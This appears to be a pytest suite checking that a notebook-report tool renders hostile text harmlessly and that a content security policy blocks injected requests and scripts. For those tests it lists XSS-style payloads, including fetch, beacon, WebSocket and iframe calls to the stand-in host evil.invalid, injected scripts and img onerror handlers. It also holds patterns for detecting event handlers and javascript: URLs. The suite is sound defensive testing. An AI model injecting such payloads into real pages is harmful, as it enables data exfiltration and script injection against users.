"""Hostile texts through every renderer, in a real browser: they are read, and nothing else comes of them."""

import json
import re
import shutil
import unicodedata
import urllib.error
import urllib.request
from html import escape

import nbformat
import psutil
import pytest
from bs4 import BeautifulSoup

import samples
from conftest import Clone, eventually, interrupted
from reluctant import page as pages
from reluctant import places, report
from reluctant.failures import INTERRUPTED, readable
from reluctant.outputs import FIGURE
from test_lab import PANEL, STARTED, Session
from test_pages import opened

TEXTS = samples.hostile_texts()
TABLE = {"table", "thead", "tbody", "tr", "th", "td", "span"}
DRAWN = {"svg", "defs", "g", "clipPath", "rect", "path", "line", "circle", "text", "tspan", "div", "button"}
TAGS = "all => [...new Set(all.flatMap(one => [...one.querySelectorAll('*')].map(each => each.localName)))]"
ACTING = """all => all.flatMap(one => [...one.querySelectorAll('*')]).flatMap(each => [...each.attributes]
    .filter(one => /^on/i.test(one.name) || /^\\s*(javascript|data:text|vbscript)/i.test(one.value) && /href|src|action/.test(one.name))
    .filter(one => each.localName != 'a' || one.value != each.textContent)
    .map(one => each.outerHTML.slice(0, 200)))"""
NEVER = (
    "iframe, object, embed, base, form, video, audio, frame, math annotation-xml, svg script, svg a,"
    " [style*='evil'], img[src]:not([src^='data:image/'], [src^='blob:'])"
)
MOVED = """range => Array.from({ length: Number(range.max) + 1 }, (_, at) => {
  range.value = at;
  range.dispatchEvent(new Event("input"));
  return range.getAttribute("aria-valuetext");
})"""
WATCHED = "window.alert = () => { window.harmed = true; };"


def squeezed(text: str) -> str:
    """A text as all renderers leave it: spaces, and what can't be seen, are their own affair."""
    kept = (each for each in text if unicodedata.category(each)[0] not in "ZC" and each not in "\ufffd?")
    return "".join(kept)


def missing(shown: str, texts=TEXTS, most=10_000) -> list[str]:
    """The texts that can't be read. Where a terminal's colours are drawn, their codes are not."""
    found = squeezed(re.sub(r"\[\d*[mJ]", "", shown))
    return [text for text in texts if squeezed(re.sub(r"\[\d*[mJ]", "", text[:most])) not in found]


def tags(page, region: str) -> set[str]:
    return set(page.locator(region).evaluate_all(TAGS))


def assert_nothing_acts(page, region="body"):
    assert page.locator(region).evaluate_all(ACTING) == []
    assert page.locator(region).locator(NEVER).evaluate_all("all => all.map(one => one.outerHTML.slice(0, 200))") == []
    assert not page.evaluate("window.harmed")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A clone in which every kind of output was made of each text, and what was said of a cell that stops with all of them."""
    clone = Clone(tmp_path_factory.mktemp("hostile") / "clone").borrow()
    samples.write(clone.notebooks, hostile=samples.hostile(), throwing=samples.throwing())
    shutil.copy(samples.HOSTILE, clone.notebooks)
    code, clone.said = clone.run("report")
    assert code == 1 and clone.reports.joinpath("00-hostile.html").exists(), clone.said
    return clone


def test_texts_stay_texts_in_a_page(browser, hostile):
    with opened(browser, hostile.reports / "00-hostile.html") as page:
        page.on("dialog", lambda dialog: pytest.fail(dialog.message))
        assert_nothing_acts(page)
        assert tags(page, ".plot") <= DRAWN and page.locator(".plot[data-drawn]").count() == len(TEXTS) + 1
        assert tags(page, "figcaption") == set()
        assert tags(page, ".jp-OutputArea .wide") <= TABLE
        assert tags(page, ".claim") <= {"p", "strong"}
        assert tags(page, ".jp-OutputArea pre") <= {"span"}
        assert tags(page, ".contents a") <= pages.WITHIN_LINES
        lengths = {"figcaption": 299, ".jp-OutputArea td": 59, ".jp-OutputArea th": 59, ".claim .said": 999, ".claim .measured": 999}
        for region, most in lengths.items():
            assert missing("".join(page.locator(region).all_text_contents()), most=most) == [], region
        assert missing("".join(page.locator(".plot .xtitle").all_text_contents())) == []
        assert missing("".join(page.locator(".plot .legendtext").evaluate_all("all => all.map(one => one.textContent)"))) == []
        assert missing("".join(page.locator(".jp-OutputArea pre").all_text_contents())) == []
        assert missing("".join(page.locator(".plot").evaluate_all("all => all.map(one => one.getAttribute('aria-label'))"))) == []
        hover = "plot => { Plotly.Fx.hover(plot, [{ curveNumber: 0, pointNumber: 0 }, { curveNumber: 1, pointNumber: 0 }]);"
        hovered = page.locator(".plot").evaluate_all(
            f"plots => plots.map({hover} return plot.querySelector('.hoverlayer').textContent; }})"
        )
        assert missing("".join(hovered), [text for text in TEXTS if len(text) < 15]) == []
        drawn = page.locator(".plot text").evaluate_all("all => all.map(one => one.textContent)")
        for text in (text for text in TEXTS if "%{" in text):  # the title, the axes', the name, a category and a note
            assert sum(squeezed(text) in squeezed(one) for one in drawn) >= 5, text
        page.locator(".plot").evaluate_all("plots => plots.forEach(plot => Plotly.animate(plot, null, { frame: { duration: 0 } }))")
        assert tags(page, ".plot") <= DRAWN
        assert_nothing_acts(page)


def test_texts_stay_texts_in_names_and_headings(browser, hostile, tmp_path, monkeypatch):
    folders = {"NOTEBOOKS": tmp_path / "notebooks", "REPORTS": tmp_path / "reports", "EXECUTED": tmp_path / "executed"}
    for name, folder in folders.items():
        folder.mkdir()
        monkeypatch.setattr(places, name, folder)
    names = [text for text in TEXTS if "/" not in text and len(text.encode(errors="replace")) < 200 and text.isprintable()]
    for number, name in enumerate(names):
        made = samples.notebook(samples.new_markdown_cell(f"{name}\n\n{name}" if number % 2 else "no heading"))
        nbformat.write(made, folders["NOTEBOOKS"] / f"{10 + number}{name}.ipynb")
        (folders["REPORTS"] / f"{10 + number}{name}.html").touch()
    report.write_overview()
    with opened(browser, folders["REPORTS"] / "index.html") as page:
        assert_nothing_acts(page)
        assert tags(page, ".cards") <= pages.WITHIN_LINES | {"li", "div", "h2", "a", "p"}
        assert missing("".join(page.locator(".cards h2").all_text_contents()), names) == []
        for number, href in enumerate(page.locator(".cards h2 a").evaluate_all("all => all.map(one => one.getAttribute('href'))")):
            assert (folders["REPORTS"] / urllib.request.unquote(href)).exists(), names[number]


@pytest.mark.long
def test_a_hostile_parameter_is_passed_on_as_it_is(ready_clone):
    note = "\n".join(text for text in TEXTS if "\0" not in text and text.encode(errors="replace").decode() == text)
    code, said = ready_clone.run("report", "00", "--set", f"note={note}")
    assert code == 0, said
    (path,) = ready_clone.reports.glob("00-bend--note-*.html")
    page = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
    path.unlink()
    kinds = [script.get("type") for script in page.find_all("script")]
    assert kinds == [None, "application/json", "application/json", "text/plain", None]
    assert missing("".join(each.get_text() for each in page.select(".jp-OutputArea pre")), note.split("\n")) == []


def test_half_a_character_is_refused(ready_clone):
    code, said = ready_clone.run("report", "00", "--set", b"note=\xff".decode(errors="surrogateescape"))
    assert code == 1 and "note must be of type String. Received: \\udcff." in said


def test_an_exception_says_its_texts_and_moves_no_terminal(hostile):
    told = hostile.said[hostile.said.index("workbook: 01-throwing stops in cell 1") :]
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", told)
    # What can't be seen is escaped; half a character has become a question mark on its way.
    read = squeezed(told)
    assert [text for text in TEXTS if squeezed(readable(text)) not in read and squeezed(text) not in read] == []


def test_texts_stay_texts_where_a_figure_is_played(browser, tmp_path):
    # A label as the library writes it, which is read, and one as it comes, which is only harmless.
    labels = [{"label": label, "method": label} for text in TEXTS for label in (escape(text), text)]
    layout = {"sliders": [{"steps": labels}], "updatemenus": [{"buttons": labels}, {"buttons": labels, "type": "buttons"}]}
    cell = samples.code("1")
    cell.outputs = [nbformat.v4.new_output("display_data", {FIGURE: {"data": [], "layout": layout}})]
    (tmp_path / "page.html").write_text(pages.page("x", samples.notebook(cell)), encoding="utf-8", errors="replace")
    with opened(browser, tmp_path / "page.html") as page:
        said = page.locator(".player input").evaluate(MOVED)
        assert missing("".join(said)) == [] and len(said) == len(labels)
        assert tags(page, ".player") == {"input", "output", "button", "select", "option"}
        assert_nothing_acts(page)


@pytest.mark.parametrize(
    "harm",
    [
        "fetch('https://evil.invalid/')",
        "new Image().src = 'https://evil.invalid/a.png'",
        "navigator.sendBeacon('https://evil.invalid/')",
        "new WebSocket('wss://evil.invalid/')",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.invalid/' }))",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.invalid/x.css' }))",
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.harmed = true' }))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.harmed = true\">')",
        "setTimeout('window.harmed = true')",
    ],
)
def test_the_policy_of_a_page_stops_what_would_get_in(browser, ready_clone, harm):
    context = browser.new_context()
    reached = []
    context.route("https://**", lambda route: (reached.append(route.request.url), route.abort()))
    page = context.new_page()
    for name in ("01-sum.html", "index.html"):
        page.goto((ready_clone.reports / name).as_uri())
        page.evaluate("addEventListener('securitypolicyviolation', () => { window.stopped = true; })")
        page.evaluate(f"() => {{ try {{ {harm}; }} catch {{ }} }}")
        eventually(lambda: page.evaluate("window.stopped"))
        assert not page.evaluate("window.harmed") and reached == []
    context.close()


@pytest.fixture(scope="module")
def server(hostile):
    """`./workbook lab` itself: its address, its token and its process."""
    executed = nbformat.read(hostile.root / "target" / "notebooks" / "00-hostile.ipynb", as_version=4)
    # A picture in Markdown is fetched, by JupyterLab's own choice.
    executed.cells = [cell for cell in executed.cells if cell.cell_type == "code"]
    nbformat.write(executed, hostile.notebooks / "00-hostile.ipynb")
    workbook = hostile.start("lab", "--no-browser")
    line = eventually(lambda: (lambda text: text if "token=" in text else None)(workbook.stdout.readline()))
    port, token = re.search(r"http://localhost:(\d+)/\S*\?token=(\w+)", line).groups()
    yield int(port), token, workbook
    code, _, left = interrupted(workbook)
    assert (code, left) == (INTERRUPTED, [])


def addresses(process):
    """What a process and those that it started listen to."""
    sockets = [each for one in [process, *process.children(recursive=True)] for each in one.net_connections("tcp")]
    return [each.laddr for each in sockets if each.status == psutil.CONN_LISTEN]


@pytest.mark.long
def test_the_server_asks_for_its_token_and_listens_to_this_machine_only(server):
    port, token, workbook = server
    listening = eventually(lambda: addresses(psutil.Process(workbook.pid)))
    assert {each.ip for each in listening} <= {"127.0.0.1", "::1"} and port in {each.port for each in listening}
    assert len(token) >= 32
    for address in ("api/contents", "api/kernels", "api/contents?token=wrong"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/{address}")
        assert refused.value.code == 403
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/contents?token={token}") as said:
        assert "00-hostile.ipynb" in json.dumps(json.load(said))


@pytest.mark.long
def test_texts_stay_texts_in_jupyterlab(browser, server):
    port, token, _ = server
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    context.add_init_script(WATCHED)
    others = []

    def only_here(route):
        if f":{port}/" in route.request.url:
            route.continue_()
        else:
            others.append(route.request.url)
            route.abort()

    context.route("**/*", only_here)
    page = context.new_page()
    page.goto(f"http://localhost:{port}/lab/tree/00-hostile.ipynb?token={token}&reset")
    page.wait_for_selector(f"{PANEL} .jp-Notebook-cell")
    page.wait_for_function(STARTED)
    session = Session(page)
    assert_outputs_are_texts(session)  # as stored: not trusted
    session.run_all()
    assert_outputs_are_texts(session)
    assert others == []
    context.close()


def assert_outputs_are_texts(session):
    """Visits each cell with outputs: JupyterLab draws only what is near the window."""
    drawn, read = 0, ""
    for number in range(1, 9):
        cell = session.cell(number)
        outputs = cell.locator(".jp-OutputArea-output")
        outputs.first.wait_for()
        for figure in cell.locator(".jp-RenderedPlotly, .js-plotly-plot").all():
            figure.locator(".main-svg").first.wait_for()
        drawn += cell.locator(".js-plotly-plot").count()
        read += "".join(outputs.all_text_contents())
        output = f"{PANEL} .jp-OutputArea-output"
        assert tags(session.page, f"{PANEL} .js-plotly-plot") <= DRAWN | {"img"}  # the extension keeps a picture of each figure
        assert tags(session.page, f"{output}.jp-RenderedHTMLCommon") <= TABLE | {"blockquote", "p", "strong", "code", "br"}
        links = session.page.locator(f"{output} a").evaluate_all("all => all.map(one => [one.getAttribute('href'), one.textContent])")
        for address, said in links:  # what JupyterLab makes of an address or a path in a text
            assert not address or address.split("://")[-1] == said.split("://")[-1]
        assert_nothing_acts(session.page, f"{PANEL} .jp-OutputArea")
    assert drawn == len(TEXTS) + 1
    assert missing(read) == []
